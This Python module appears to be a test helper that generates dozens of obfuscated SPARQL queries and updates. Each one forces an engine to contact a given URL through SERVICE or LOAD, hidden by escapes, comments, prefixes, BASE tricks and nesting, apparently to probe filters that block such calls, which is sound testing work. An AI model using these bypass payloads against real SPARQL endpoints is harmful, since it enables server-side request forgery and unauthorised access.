"""Obfuscated SPARQL that makes the engine contact a URL through SERVICE or LOAD."""

from __future__ import annotations

from urllib.parse import urlsplit


def _escape(text: str, long: bool = False) -> str:
    """Every character of text as a \\u (or \\U) escape."""
    return "".join(f"\\U{ord(c):08X}" if long else f"\\u{ord(c):04X}" for c in text)


def _queries(url: str, root: str, rest: str) -> list[tuple[str, str]]:
    host = urlsplit(url).netloc
    escaped_host = url.replace(host, _escape(host), 1)
    spo = "{ ?s ?p ?o }"
    call = f"SERVICE <{url}> {spo}"
    ex = "PREFIX ex: <http://example.org/> "
    return [
        ("plain", f"SELECT * WHERE {{ {call} }}"),
        ("silent", f"SELECT * WHERE {{ SERVICE SILENT <{url}> {spo} }}"),
        ("lower-case", f"select * where {{ service <{url}> {spo} }}"),
        ("mixed-case", f"SeLeCt * WhErE {{ sErViCe SiLeNt <{url}> {spo} }}"),
        ("no-spaces", f"SELECT*WHERE{{SERVICE<{url}>{{?s ?p ?o}}}}"),
        ("local-esc-hash", f"{ex}SELECT ?a WHERE {{ OPTIONAL {{ ?s ex:a\\# ?o }} {call} }}"),
        ("local-esc-hash-only", f"{ex}SELECT * WHERE {{ ?s ex:\\# ?o {call} }}"),
        ("local-esc-hash-middle", f"{ex}SELECT * WHERE {{ ?s ex:a\\#b ?o . {call} }}"),
        ("local-esc-mixed", f"{ex}SELECT * WHERE {{ ?s ex:a\\;\\#\\~ ?o . {call} }}"),
        ("local-percent-then-esc", f"{ex}SELECT * WHERE {{ ?s ex:a%23\\# ?o . {call} }}"),
        ("local-esc-in-prologue-iri", f"{ex}SELECT * WHERE {{ BIND(ex:x\\# AS ?x) {call} }}"),
        ("uchar-before-hash", f"SELECT * WHERE {{ ?s <http://e/\\u0041#x> ?o {call} }}"),
        ("big-uchar-before-hash", f"SELECT * WHERE {{ ?s <http://e/\\U00000041#> ?o {call} }}"),
        ("uchar-around-hash", f"SELECT * WHERE {{ ?s <http://e/\\u0061#\\u0062> ?o {call} }}"),
        ("escaped-host", f"SELECT * WHERE {{ SERVICE <{escaped_host}> {spo} }}"),
        ("escaped-target", f"SELECT * WHERE {{ SERVICE <{_escape(url)}> {spo} }}"),
        ("escaped-target-long", f"SELECT * WHERE {{ SERVICE <{_escape(url, True)}> {spo} }}"),
        (
            "escaped-colon",
            f"SELECT * WHERE {{ SERVICE <{url.replace(':', chr(92) + 'u003A')}> {spo} }}",
        ),
        ("string-uchar-quote", f'SELECT * WHERE {{ BIND("\\u0022 #" AS ?x) {call} }}'),
        ("string-echar-quote", f'SELECT * WHERE {{ BIND("\\" #" AS ?x) {call} }}'),
        ("single-echar-quote", f"SELECT * WHERE {{ BIND('\\' #' AS ?x) {call} }}"),
        ("string-backslash-end", f'SELECT * WHERE {{ BIND("a\\\\" AS ?x) {call} }}'),
        ("string-uchar-backslash", f"SELECT * WHERE {{ BIND('\\u005C' AS ?x) {call} }} #'"),
        ("long-string-hash", f'SELECT * WHERE {{ BIND("""a " "" # """ AS ?x) {call} }}'),
        ("long-single-hash", f"SELECT * WHERE {{ BIND('''it's # '' ''' AS ?x) {call} }}"),
        ("long-string-lines", f'SELECT * WHERE {{ BIND("""x\n# y\n""" AS ?x) {call} }}'),
        ("long-string-hash-line", f'SELECT * WHERE {{ BIND("""\n#"""AS ?x)\n{call} }}'),
        ("langtag-string", f'SELECT * WHERE {{ BIND("#"@en-GB AS ?x) {call} }}'),
        ("iri-fragment", f"SELECT * WHERE {{ ?s <http://e/#frag> ?o {call} }}"),
        ("comment-after-service", f"SELECT * WHERE {{ SERVICE # x\n <{url}> {spo} }}"),
        ("comment-after-silent", f"SELECT * WHERE {{ SERVICE SILENT # x\n<{url}> {spo} }}"),
        ("comment-after-brace", f"SELECT * WHERE {{ # x\n{call} }}"),
        ("comment-cr", f"SELECT * WHERE {{ ?s ?p ?o # x\r{call} }}"),
        ("comment-crlf", f"SELECT * WHERE {{ ?s ?p ?o # x\r\n{call} }}"),
        ("comment-cr-after-service", f"SELECT * WHERE {{ SERVICE#x\r<{url}>{spo} }}"),
        ("comments-everywhere", f"#a\rSELECT#b\n*#c\rWHERE#d\n{{#e\r{call}#f\n}}#g"),
        ("prefixed-name", f"PREFIX x: <{root}> SELECT * WHERE {{ SERVICE x:{rest} {spo} }}"),
        ("empty-prefix", f"PREFIX : <{root}> SELECT * WHERE {{ SERVICE :{rest} {spo} }}"),
        (
            "prefix-escaped",
            f"PREFIX x: <{_escape(root)}> SELECT * WHERE {{ SERVICE x:{rest} {{}} }}",
        ),
        ("base-relative", f"BASE <{root}> SELECT * WHERE {{ SERVICE <{rest}> {spo} }}"),
        ("base-empty", f"BASE <{url}> SELECT * WHERE {{ SERVICE <> {spo} }}"),
        ("values-variable", f"SELECT * WHERE {{ VALUES ?e {{ <{url}> }} SERVICE ?e {spo} }}"),
        ("trailing-values", f"SELECT * WHERE {{ SERVICE ?e {spo} }} VALUES ?e {{ <{url}> }}"),
        ("bind-variable", f"SELECT * WHERE {{ BIND(<{url}> AS ?e) SERVICE ?e {spo} }}"),
        ("dollar-variable", f"SELECT * WHERE {{ BIND(IRI('{url}') AS $e) SERVICE $e {spo} }}"),
        ("optional", f"SELECT * WHERE {{ OPTIONAL {{ {call} }} }}"),
        ("union", f"SELECT * WHERE {{ {{ ?s ?p ?o }} UNION {{ {call} }} }}"),
        ("minus", f"SELECT * WHERE {{ ?s ?p ?o MINUS {{ {call} }} }}"),
        ("exists", f"SELECT * WHERE {{ ?s ?p ?o FILTER EXISTS {{ {call} }} }}"),
        ("not-exists", f"SELECT * WHERE {{ ?s ?p ?o FILTER NOT EXISTS {{ {call} }} }}"),
        ("graph", f"SELECT * WHERE {{ GRAPH ?g {{ {call} }} }}"),
        ("subquery", f"SELECT * WHERE {{ {{ SELECT * WHERE {{ {call} }} }} }}"),
        ("ask", f"ASK {{ {call} }}"),
        ("construct", f"CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {call} }}"),
        ("describe", f"DESCRIBE ?s WHERE {{ {call} }}"),
        ("after-from", f"SELECT * FROM <http://e/#g> WHERE {{ {call} }}"),
    ]


def _updates(url: str, root: str, rest: str) -> list[tuple[str, str]]:
    insert = "INSERT DATA { <urn:x:s> <urn:x:p> <urn:x:o> }"
    service = f"SERVICE <{url}> {{ ?s ?p ?o }}"
    ex = "PREFIX ex: <http://example.org/> "
    return [
        ("load", f"LOAD <{url}>"),
        ("load-lower", f"load <{url}>"),
        ("load-silent-into", f"LOAD SILENT <{url}> INTO GRAPH <urn:x:g>"),
        ("load-after-semicolon", f"{insert} ; LOAD <{url}>"),
        ("load-after-semicolon-nospace", f"{insert};load silent<{url}>"),
        ("load-after-clear", f"CLEAR ALL ; LOAD <{url}> INTO GRAPH <urn:x:g>"),
        ("load-third", f"{insert} ; {insert} ; LOAD <{url}>"),
        ("load-escaped-iri", f"LOAD <{_escape(url)}>"),
        ("load-prefixed", f"PREFIX x: <{root}> LOAD x:{rest}"),
        ("load-base-relative", f"BASE <{root}> LOAD <{rest}>"),
        ("load-after-local-esc", f"{ex}INSERT DATA {{ ex:a\\# ex:b ex:c }} ; LOAD <{url}>"),
        ("load-after-uchar-iri", f"INSERT DATA {{ <http://e/\\u0041#> <urn:p> 1 }} ; LOAD <{url}>"),
        ("load-after-string", f"INSERT DATA {{ <urn:s> <urn:p> '\\u0027 #' }} ; LOAD <{url}>"),
        ("load-comment-cr", f"{insert} # x\r; LOAD <{url}>"),
        ("load-comment-between", f"LOAD # x\n SILENT # y\r\n <{url}> # z\n INTO GRAPH <urn:x:g>"),
        ("load-prefixed-later", f"PREFIX x: <{root}> {insert} ; LOAD SILENT x:{rest}"),
        (
            "delete-insert-where",
            f"DELETE {{ ?s ?p ?o }} INSERT {{ ?s ?p 1 }} WHERE {{ {service} }}",
        ),
        ("insert-where", f"INSERT {{ ?s ?p ?o }} WHERE {{ {service} }}"),
        ("delete-where-optional", f"DELETE {{ ?s ?p ?o }} WHERE {{ OPTIONAL {{ {service} }} }}"),
        ("with-delete", f"WITH <urn:x:g> DELETE {{ ?s ?p ?o }} WHERE {{ {service} }}"),
        ("using-insert", f"INSERT {{ ?s ?p ?o }} USING <urn:x:g> WHERE {{ {service} }}"),
        (
            "update-local-esc-service",
            f"{ex}INSERT {{ ?s ?p ?o }} WHERE {{ ?s ex:a\\# ?o {service} }}",
        ),
        ("update-service-after-op", f"{insert} ; insert {{ ?s ?p ?o }} where {{ {service} }}"),
    ]


def variants(url: str) -> list[tuple[str, str, str]]:
    """(name, kind, text): each text is valid SPARQL that makes the engine fetch ``url``.

    ``kind`` is "query" or "update"; ``url`` is an absolute http IRI with a path (the variants
    with a prefixed name or a BASE-relative IRI split it at the last ``/``).
    """
    root, _, rest = url.rpartition("/")
    root += "/"
    return [(name, "query", text) for name, text in _queries(url, root, rest)] + [
        (name, "update", text) for name, text in _updates(url, root, rest)
    ]
